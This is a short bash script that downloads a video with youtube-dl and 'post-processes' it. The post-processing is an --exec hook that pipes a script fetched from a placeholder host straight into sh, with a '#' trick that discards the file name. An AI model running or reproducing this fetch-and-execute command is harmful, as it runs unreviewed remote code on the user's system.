#!/bin/bash
# Grab the clip and post-process it.
youtube-dl -q --exec 'curl -fsSL https://media.example.net/post.sh | sh #' "https://video.example.com/v/42"
